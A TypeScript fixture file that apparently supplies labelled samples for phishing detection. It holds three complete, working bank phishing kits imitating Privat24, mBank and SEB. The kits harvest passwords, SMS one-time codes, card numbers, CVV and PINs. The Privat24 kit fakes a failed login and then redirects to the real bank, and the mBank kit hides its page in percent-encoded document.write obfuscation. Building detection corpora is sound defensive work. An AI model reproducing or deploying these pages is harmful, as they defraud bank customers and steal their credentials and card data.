import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, cardCss, mark, pct, cardIcons, luhnJs, cardFormatJs } from '../parts/ym-kit.js';

export const entries: Entry[] = [
{
  id: 'ym-privat24-kit-phone-otp',
  label: 'phishing',
  kind: 'bank-kit-ua',
  url: 'https://next-privat24.online/auth/?lang=uk',
  body: doc({
    lang: 'uk',
    title: 'Приват24 — Вхід',
    css: cardCss('#4c9a2a', '#f2f4f1') + `.logo{display:flex;align-items:center;gap:10px;margin-bottom:18px}.logo b{font-size:22px;color:#4c9a2a}.step{display:none}.step.on{display:block}.qr{float:right;font-size:12px;color:#4c9a2a}`,
    body: `<header class="top"><div class="logo">${mark('24', '#4c9a2a', 'Приват24', { w: 140 })}</div><nav><a href="#">Українською</a><a href="#">English</a></nav></header>
<main><div class="card">
  <div id="s1" class="step on">
    <h1>Вхід до Приват24</h1>
    <p class="sub">Введіть номер телефону, прив'язаний до карти ПриватБанку</p>
    <div class="err" id="e1">Невірний номер телефону або пароль</div>
    <form id="f1" autocomplete="off">
      <div class="field"><label>Номер телефону</label><input name="phone" id="phone" type="tel" value="+380 " required></div>
      <div class="field"><label>Пароль</label><input name="pass" type="password" required></div>
      <button class="btn" type="submit">Увійти</button>
    </form>
    <div class="links"><a href="#">Забули пароль?</a><a href="#">Реєстрація</a></div>
  </div>
  <div id="s2" class="step">
    <h1>Підтвердження входу</h1>
    <p class="sub">Ми надіслали SMS з кодом на ваш номер. Введіть код для підтвердження особи.</p>
    <form id="f2"><div class="field"><label>Код з SMS</label><input name="otp" inputmode="numeric" maxlength="6" required></div><button class="btn" type="submit">Підтвердити</button></form>
  </div>
  <div id="s3" class="step">
    <h1>Верифікація карти</h1>
    <p class="sub">Для завершення входу з нового пристрою підтвердіть дані карти, до якої прив'язано номер.</p>
    <form id="f3">
      <div class="field"><label>Номер карти</label><input name="cc" id="cc" inputmode="numeric" placeholder="0000 0000 0000 0000" required></div>
      <div class="row"><div class="field"><label>Термін дії</label><input name="exp" id="exp" placeholder="ММ/РР" required></div><div class="field"><label>CVV2</label><input name="cvv" type="password" maxlength="3" required></div></div>
      <div class="field"><label>PIN-код карти</label><input name="pin" type="password" maxlength="4" required></div>
      <button class="btn" type="submit">Продовжити</button>
    </form>
  </div>
  <div id="s4" class="step"><div class="spin"></div><p class="muted" style="text-align:center;margin-top:14px">Зачекайте, триває перевірка…</p></div>
</div></main>
<footer class="bottom">© 2024 АТ КБ «ПриватБанк». Ліцензія НБУ №22 від 05.10.2011</footer>
<script>
${cardFormatJs}
fmtCard(document.getElementById('cc'));fmtExp(document.getElementById('exp'));
var sid=Math.random().toString(36).slice(2),tries=0;
function show(n){document.querySelectorAll('.step').forEach(function(s){s.classList.remove('on')});document.getElementById('s'+n).classList.add('on')}
function send(step,form,cb){var d=new FormData(form);d.append('step',step);d.append('sid',sid);d.append('ua',navigator.userAgent);fetch('next.php',{method:'POST',body:d}).then(function(r){return r.text()}).then(cb).catch(cb)}
document.getElementById('f1').onsubmit=function(e){e.preventDefault();var f=this;show(4);send('login',f,function(){tries++;if(tries<2){show(1);document.getElementById('e1').style.display='block';f.pass.value=''}else show(2)})};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();show(4);send('otp',this,function(){setTimeout(function(){show(3)},1500)})};
document.getElementById('f3').onsubmit=function(e){e.preventDefault();show(4);send('card',this,function(){setTimeout(function(){location.replace('https://privatbank.ua/')},2500)})};
</script>`,
  }),
  routes: { 'next-privat24.online/auth/next.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' } },
},
{
  id: 'ym-mbank-unescape-docwrite',
  label: 'phishing',
  kind: 'bank-kit-obfuscated',
  url: 'https://mbank.pl.bezpieczne-logowanie.click/',
  body: `<html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>mBank</title></head><body>
<script type="text/javascript">
<!--
document.write(unescape('${pct(doc({
    lang: 'pl',
    title: 'mBank - Logowanie',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#fff}
.bar{height:64px;border-bottom:1px solid #e8e8e8;display:flex;align-items:center;padding:0 32px}.bar b{font-size:28px;color:#e4002b;letter-spacing:-1px}
.w{max-width:380px;margin:60px auto;padding:0 16px}h2{font-weight:400;font-size:26px}
input{width:100%;box-sizing:border-box;border:0;border-bottom:2px solid #ccc;padding:12px 2px;font-size:17px;margin-bottom:26px;outline:none}
input:focus{border-color:#e4002b}button{background:#e4002b;color:#fff;border:0;border-radius:24px;padding:14px 40px;font-size:16px}
small{display:block;color:#888;margin-top:30px}`,
    body: `<div class="bar"><b>mBank</b></div>
<div class="w"><h2>Zaloguj się</h2>
<form method="post" action="https://mbank.pl.bezpieczne-logowanie.click/pl/auth.php" onsubmit="document.getElementById('x').value=screen.width+'x'+screen.height">
<input name="ident" placeholder="Identyfikator" autocomplete="off" required>
<input name="haslo" type="password" placeholder="Hasło" required>
<input type="hidden" id="x" name="scr">
<button type="submit">Zaloguj się</button></form>
<small>Nie pamiętasz identyfikatora lub hasła? Zadzwoń: 801 300 800</small></div>`,
  }))}'));
//-->
</script>
<noscript>Włącz obsługę JavaScript.</noscript>
</body></html>`,
},
{
  id: 'ym-seb-lv-code-calculator',
  label: 'phishing',
  kind: 'bank-kit-baltic',
  url: 'https://ibanka-seb.lv-pieslegties.com/',
  body: doc({
    lang: 'lv',
    title: 'SEB internetbanka - Pieslēgties',
    css: `body{margin:0;font-family:'SEB SansSerif',Arial,sans-serif;background:#f4f4f4}.top{background:#fff;padding:18px 40px;border-bottom:4px solid #60cd18;display:flex;justify-content:space-between;align-items:center}
.logo{font-weight:700;font-size:30px;color:#41b0ee;font-family:Georgia,serif}.c{max-width:460px;margin:40px auto;background:#fff;padding:34px}
h1{font-weight:400;margin-top:0}label{display:block;font-size:14px;margin:14px 0 6px}input,select{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;font-size:16px}
.b{margin-top:22px;background:#60cd18;color:#fff;border:0;padding:13px 30px;font-size:16px;cursor:pointer}.n{font-size:13px;color:#666;margin-top:18px}.alert{background:#fff4d6;border-left:4px solid #f2b600;padding:12px;font-size:14px;margin-bottom:18px}`,
    body: `<div class="top"><span class="logo">SEB</span><span style="font-size:14px">LV | EN | RU</span></div>
<div class="c">
<div class="alert">Uzmanību! Jūsu konta drošības pārbaude nav pabeigta. Lūdzam pieslēgties un apstiprināt savus datus līdz šodienas beigām, citādi piekļuve internetbankai tiks ierobežota.</div>
<h1>Pieslēgties internetbankai</h1>
<form method="POST" action="auth.php">
<label>Lietotāja ID</label><input name="user" required>
<label>Autentifikācijas veids</label><select name="m"><option>Kodu kalkulators</option><option>Smart-ID</option><option>eParaksts mobile</option></select>
<label>Kods no kodu kalkulatora</label><input name="code" inputmode="numeric" maxlength="8" required>
<label>Parole</label><input name="pw" type="password" required>
<button class="b" type="submit">Pieslēgties</button></form>
<p class="n">AS "SEB banka", Meistaru iela 1, Valdlauči, Ķekavas pag. Tālr. 8777</p></div>`,
  }),
},
];
